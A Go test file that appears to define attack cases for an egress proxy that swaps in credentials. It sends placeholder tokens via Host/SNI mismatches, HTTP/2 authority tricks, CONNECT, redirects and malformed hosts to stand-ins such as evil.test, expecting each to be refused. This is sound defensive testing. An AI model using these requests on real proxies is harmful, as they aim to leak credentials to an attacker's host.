package attack

import (
	"context"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"net"

	"github.com/codeforge-mcp/codeforge/e2e/upstream"
)

// request is the text of a raw GET with one Host.
func request(host string) string {
	return "GET /anything?t=TRIAL HTTP/1.1\\r\\nHost: " + host + "\\r\\nAuthorization: Bearer OTHER_TOKEN\\r\\nConnection: close\\r\\n\\r\\n"
}

// hosts are attempts to get a credential, or a request, to another host than the connection's.
func hosts() []Attack {
	const must = "refused, nothing sent"
	rawTo := func(name, dial, sni, host string) Attack {
		return Attack{
			Section: "A", Name: name, Expected: must, Judge: refused(),
			Code: fmt.Sprintf("await raw(%q, %s, \"%s\");", dial, sni, request(host)),
		}
	}
	list := []Attack{
		rawTo("Host of another API on a connection", upstream.HTTPBin, `"httpbin.test"`, upstream.Other),
		rawTo("SNI of another API, Host of the first", upstream.HTTPBin, `"other.test"`, upstream.HTTPBin),
		rawTo("SNI of a host in no API", upstream.HTTPBin, `"evil.test"`, upstream.HTTPBin),
		rawTo("Host of a host in no API", upstream.HTTPBin, `"httpbin.test"`, upstream.Evil),
		rawTo("SNI and Host of a host in no API on an API's address", upstream.HTTPBin, `"evil.test"`, upstream.Evil),
		{Section: "A", Name: "Host header in fetch", Expected: "the URL's host is used, or refused", Judge: unswapped("OTHER_TOKEN", false),
			Code: `await show(fetch("https://httpbin.test/anything?t=TRIAL", auth("OTHER_TOKEN", { headers: { Host: "other.test" } })));`},
		{Section: "A", Name: "Host header in node:https", Expected: "one host throughout, or refused", Judge: oneHost,
			Code: `import https from "node:https";
await new Promise((done) => https.get("https://httpbin.test/anything?t=TRIAL", { headers: { Host: "other.test", Authorization: "Bearer OTHER_TOKEN" } },
  (r) => { let t = ""; r.on("data", (d) => t += d); r.on("end", () => { out({ status: r.statusCode, text: t }); done(); }); }).on("error", (e) => { why(e); done(); }));`},
		{Section: "A", Name: "control: a ClientHello with SNI is answered", Expected: "ServerHello", Judge: verdicts(), Code: hello("httpbin.test", "===")},
		{Section: "A", Name: "no SNI at all", Expected: "no handshake", Judge: verdicts(), Code: hello("", "!==")},
		{Section: "A", Name: "an address as URL", Expected: must, Judge: refused(), Code: `await show(fetch("https://10.99.0.10/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));`},
		{Section: "A", Name: "the synthetic address as URL", Expected: must, Judge: refused(), Code: `await show(fetch("https://198.18.0.1/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));`},
		{Section: "A", Name: "second request on the connection names another API", Expected: "second refused", Judge: never("second"),
			Code: `await raw("httpbin.test", "httpbin.test", "GET /anything?t=TRIAL HTTP/1.1\r\nHost: httpbin.test\r\n\r\nGET /anything/second?t=TRIAL HTTP/1.1\r\nHost: other.test\r\nAuthorization: Bearer OTHER_TOKEN\r\nConnection: close\r\n\r\n");`},
		{Section: "A", Name: ":authority of another API over HTTP/2", Expected: must, Judge: refused(), Code: http2("other.test", "httpbin.test", "/anything?t=TRIAL", "GET")},
		{Section: "A", Name: ":authority and host differ over HTTP/2", Expected: must, Judge: refused(), Code: http2("httpbin.test", "httpbin.test", "/anything?t=TRIAL", "GET", `"host": "other.test"`)},
		{Section: "A", Name: ":path with an absolute URL over HTTP/2", Expected: "never another host", Judge: unswapped("OTHER_TOKEN", false), Code: http2("httpbin.test", "httpbin.test", "https://other.test/anything?t=TRIAL", "GET")},
		{Section: "A", Name: "absolute-form target of another API", Expected: must, Judge: refused(),
			Code: `await raw("httpbin.test", "httpbin.test", "GET https://other.test/anything?t=TRIAL HTTP/1.1\r\nHost: httpbin.test\r\nAuthorization: Bearer OTHER_TOKEN\r\nConnection: close\r\n\r\n");`},
		{Section: "A", Name: "absolute-form target and Host of another API", Expected: must, Judge: refused(),
			Code: `await raw("httpbin.test", "httpbin.test", "GET https://other.test/anything?t=TRIAL HTTP/1.1\r\nHost: other.test\r\nAuthorization: Bearer OTHER_TOKEN\r\nConnection: close\r\n\r\n");`},
		{Section: "A", Name: "authority-form target (CONNECT)", Expected: must, Judge: refused(),
			Code: `await raw("httpbin.test", "httpbin.test", "CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\nX-T: TRIAL\r\n\r\n");`},
		{Section: "A", Name: "CONNECT on port 80", Expected: must, Judge: refused(),
			Code: `await raw("httpbin.test", null, "CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\nX-T: TRIAL\r\n\r\n", { port: 80 });`},
		{Section: "A", Name: "TLS inside a plain connection to port 80", Expected: must, Judge: refused(), Code: `try { const c = await Deno.connect({ hostname: "httpbin.test", port: 80 }); const t = await Deno.startTls(c, { hostname: "httpbin.test" }); await t.write(new TextEncoder().encode("` + request(upstream.HTTPBin) + `")); const got = await readAll(t, 2000); out({ status: Number(got.slice(9, 12)), text: got.slice(0, 200) }); } catch (e) { why(e); }`},
		{Section: "A", Name: "name of an API to another API's host", Expected: "not swapped", Judge: unswapped("OTHER_TOKEN", true), Code: `await show(fetch("https://httpbin.test/anything?t=TRIAL", auth("OTHER_TOKEN")));`},
		{Section: "A", Name: "name of an API outside the run's APIs", Expected: "not swapped", APIs: []string{"shared-b"}, Judge: unswapped("SHARED_A_TOKEN", true), Code: `await show(fetch("https://shared.test/anything?t=TRIAL", auth("SHARED_A_TOKEN")));`},
		{Section: "A", Name: "host outside the run's APIs", Expected: must, APIs: []string{"httpbin"}, Judge: refused(), Code: `await show(fetch("https://other.test/anything?t=TRIAL", auth("OTHER_TOKEN")));`},
		{Section: "A", Name: "host in no API", Expected: must, Judge: refused(), Code: `await show(fetch("https://evil.test/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));`},
		{Section: "A", Name: "host of an inactive API", Expected: must, Judge: refused(), Code: `await show(fetch("https://off.test/anything?t=TRIAL", auth("OFF_TOKEN")));`},
		{Section: "A", Name: "name to a host in no API under YOLO", Expected: "arrives literally", YOLO: true, Judge: literally("HTTPBIN_TOKEN"), Code: `await show(fetch("https://evil.test/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));`},
		{Section: "A", Name: "catalog host outside the run under YOLO", Expected: must, YOLO: true, APIs: []string{"httpbin"}, Judge: refused(), Code: `await show(fetch("https://other.test/anything?t=TRIAL", auth("OTHER_TOKEN")));`},
		{Section: "A", Name: "inactive API's host under YOLO", Expected: must, YOLO: true, Judge: refused(), Code: `await show(fetch("https://off.test/anything?t=TRIAL", auth("OFF_TOKEN")));`},
		{Section: "A", Name: "control: the name to its own host", Expected: "swapped", Judge: swapped("HTTPBIN_TOKEN"), Code: `await show(fetch("https://httpbin.test/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));`},
		{Section: "A", Name: "control: the name to its own wildcard host", Expected: "swapped", Judge: swapped("WILD_TOKEN"), Code: `await show(fetch("https://a.wild.test/anything?t=TRIAL", auth("WILD_TOKEN")));`},
		{Section: "A", Name: "two labels below a one-label wildcard", Expected: must, Judge: refused(), Code: `await show(fetch("https://x.y.wild.test/anything?t=TRIAL", auth("WILD_TOKEN")));`},
		{Section: "A", Name: "the apex of a wildcard", Expected: must, Judge: refused(), Code: `await show(fetch("https://wild.test/anything?t=TRIAL", auth("WILD_TOKEN")));`},
		{Section: "A", Name: "a wildcard's token to a host with an exact API", Expected: "exact beats wildcard", Judge: unswapped("WILD_TOKEN", false), Code: `await show(fetch("https://b.wild.test/anything?t=TRIAL", auth("WILD_TOKEN")));`},
		{Section: "A", Name: "redirect to another API, followed by fetch", Expected: "not swapped there", Judge: unswapped("OTHER_TOKEN", false), Code: `await show(fetch("https://httpbin.test/x/hop?t=TRIAL&to=" + encodeURIComponent("https://other.test/anything?t=TRIAL"), auth("HTTPBIN_TOKEN")));`},
		{Section: "A", Name: "redirect to a host in no API, followed by fetch", Expected: "second hop refused", Judge: never("anything"), Code: `await show(fetch("https://httpbin.test/x/hop?t=TRIAL&to=" + encodeURIComponent("https://evil.test/anything?t=TRIAL"), auth("HTTPBIN_TOKEN")));`},
		{Section: "A", Name: "redirect to plain http of the same host", Expected: "second hop refused", Judge: never("anything"), Code: `await show(fetch("https://httpbin.test/x/hop?t=TRIAL&to=" + encodeURIComponent("http://httpbin.test/anything?t=TRIAL"), auth("HTTPBIN_TOKEN")));`},
		{Section: "A", Name: "307 with a body credential to another API", Expected: "not swapped there", Judge: never("other"), Code: `await show(fetch("https://httpbin.test/x/hop?t=TRIAL&status=307&to=" + encodeURIComponent("https://evil.test/anything/other?t=TRIAL"), { method: "POST", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: "client_secret=HTTPBIN_BODY" }));`},
		{Section: "A", Name: "one host in two APIs: the other's restriction", Expected: "refused", APIs: []string{"shared-b"}, Judge: refused("method_restricted"), Code: `await show(fetch("https://shared.test/anything?t=TRIAL", auth("SHARED_B_TOKEN", { method: "DELETE" })));`},
		{Section: "A", Name: "control: the run's own account of a shared host", Expected: "swapped", APIs: []string{"shared-b"}, Judge: swapped("SHARED_B_TOKEN"), Code: `await show(fetch("https://shared.test/anything?t=TRIAL", auth("SHARED_B_TOKEN")));`},
		{Section: "A", Name: "plain http to a host with credentials", Expected: must, Judge: refused(), Code: `await show(fetch("http://httpbin.test/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));`},
		{Section: "A", Name: "control: plain http where the API allows it", Expected: "swapped", Judge: swapped("PLAIN_TOKEN"), Code: `await show(fetch("http://plain.test/anything?t=TRIAL", auth("PLAIN_TOKEN")));`},
		{Section: "A", Name: "plain http of one API with another's name", Expected: "not swapped", Judge: unswapped("HTTPBIN_TOKEN", false), Code: `await show(fetch("http://plain.test/anything?t=TRIAL", auth("HTTPBIN_TOKEN")));`},
		{Section: "A", Name: "plain http host on port 80 with Host of another API", Expected: must, Judge: refused(), Code: `await raw("plain.test", null, "` + request(upstream.HTTPBin) + `", { port: 80 });`},
	}
	for _, row := range []struct{ name, host string }{
		{"NUL", `httpbin.test\x00.evil.test`}, {"percent-encoded NUL", "httpbin.test%00"}, {"another port", "httpbin.test:8443"},
		{"port 0", "httpbin.test:0"}, {"port that overflows", "httpbin.test:65979"}, {"userinfo", "user@httpbin.test"}, {"userinfo with another host", "httpbin.test@other.test"},
		{"a path", "httpbin.test/other.test"}, {"a comma", "httpbin.test,other.test"}, {"a space", "httpbin.test other.test"}, {"a backslash", `httpbin.test\\other.test`},
		{"a fragment", "httpbin.test#other.test"}, {"empty", ""}, {"empty labels", "httpbin..test"}, {"two trailing dots", "httpbin.test.."}, {"percent letters", "%68ttpbin.test"},
		{"an IPv6 literal", "[::1]"}, {"an IPv4 literal", "127.0.0.1"}, {"an integer address", "2130706433"}, {"a hexadecimal address", "0x7f.1"}, {"raw UTF-8", `\xef\xbd\x88ttpbin.test`},
		{"a label of 64 bytes", "a123456789012345678901234567890123456789012345678901234567890123.wild.test"}, {"a tab", `httpbin.test\t`},
	} {
		list = append(list, Attack{
			Section: "A", Name: "Host with " + row.name, Expected: must, Judge: refusedOr(row.name == "a tab"),
			Code: `await raw("httpbin.test", "httpbin.test", "GET /anything?t=TRIAL HTTP/1.1\r\nHost: ` + row.host + `\r\nAuthorization: Bearer OTHER_TOKEN\r\nConnection: close\r\n\r\n");`,
		})
	}
	for _, row := range []struct{ name, url string }{
		{"upper case", "https://HTTPBIN.TEST/anything?t=TRIAL"}, {"a trailing dot", "https://httpbin.test./anything?t=TRIAL"}, {"userinfo", "https://other.test@httpbin.test/anything?t=TRIAL"},
		{"the default port", "https://httpbin.test:443/anything?t=TRIAL"}, {"full-width letters", "https://ｈttpbin.test/anything?t=TRIAL"}, {"an ideographic dot", "https://httpbin。test/anything?t=TRIAL"},
	} {
		list = append(list, Attack{
			Section: "A", Name: "URL with " + row.name, Expected: "normalised once, or refused", Judge: unswapped("OTHER_TOKEN", false),
			Code: fmt.Sprintf(`await show((async () => await fetch(%q, auth("OTHER_TOKEN")))());`, row.url),
		})
	}
	return list
}

// refusedOr is refused; where lenient an optional-whitespace reading of the Host is right too.
func refusedOr(lenient bool) Judge {
	if lenient {
		return unswapped("OTHER_TOKEN", false)
	}
	return refused()
}

// oneHost: at most one request arrived, under one name in the handshake and in Host.
func oneHost(e *Evidence) (string, bool) {
	for _, s := range e.Arrived {
		if s.Name != s.Host {
			return fmt.Sprintf("Host %s over a connection to %s", s.Host, s.Name), false
		}
	}
	return fmt.Sprintf("%s; %d arrived", e.brief(), len(e.Arrived)), len(e.Arrived) == 1 || e.failed()
}

// literally: the request arrived with the name itself.
func literally(token string) Judge {
	return func(e *Evidence) (string, bool) {
		if len(e.Arrived) == 0 || e.got(token) || e.Arrived[0].Header.Get("Authorization") != "Bearer "+token {
			return e.brief(), false
		}
		return "the name arrived literally", true
	}
}

// http2 is code that sends one request over HTTP/2 with these pseudo headers.
func http2(authority, connect, path, method string, more ...string) string {
	extra := ""
	for _, m := range more {
		extra += ", " + m
	}
	return fmt.Sprintf(`import h2 from "node:http2";
await new Promise((done) => { const c = h2.connect("https://%s"); c.on("error", (e) => { why(e); done(); });
  const r = c.request({ ":method": %q, ":authority": %q, ":path": %q, ":scheme": "https", "authorization": "Bearer OTHER_TOKEN"%s });
  let s = 0, t = ""; r.on("response", (h) => s = h[":status"]); r.on("data", (d) => t += d);
  r.on("error", (e) => { why(e); c.close(); done(); }); r.on("end", () => { let code = ""; try { code = JSON.parse(t).code ?? ""; } catch { /* none */ } out({ status: s, code, text: t }); c.close(); done(); }); r.end(); setTimeout(() => { c.destroy(); done(); }, 4000); });`,
		connect, method, authority, path, extra)
}

// hello is code that opens TLS with a ClientHello for a server name, or none: a record of type 22 is a ServerHello.
func hello(name, operator string) string {
	return fmt.Sprintf(`const hello = Uint8Array.from(atob(%q), (c) => c.charCodeAt(0)); const c = await Deno.connect({ hostname: "httpbin.test", port: 443 }); await c.write(hello); const got = await readAll(c, 2000); out({ held: got.charCodeAt(0) %s 22, seen: got === "" ? "cut" : "record of type " + got.charCodeAt(0) });`,
		base64.StdEncoding.EncodeToString(clientHello(name)), operator)
}

// clientHello is the first flight of a TLS client.
func clientHello(name string) []byte {
	ours, theirs := net.Pipe()
	defer ours.Close()
	go func() {
		client := tls.Client(theirs, &tls.Config{ServerName: name, InsecureSkipVerify: true}) //nolint:gosec // its handshake never ends
		_ = client.HandshakeContext(context.Background())
		_ = theirs.Close()
	}()
	b := make([]byte, 16<<10)
	n, err := ours.Read(b)
	if err != nil {
		return nil
	}
	return b[:n]
}
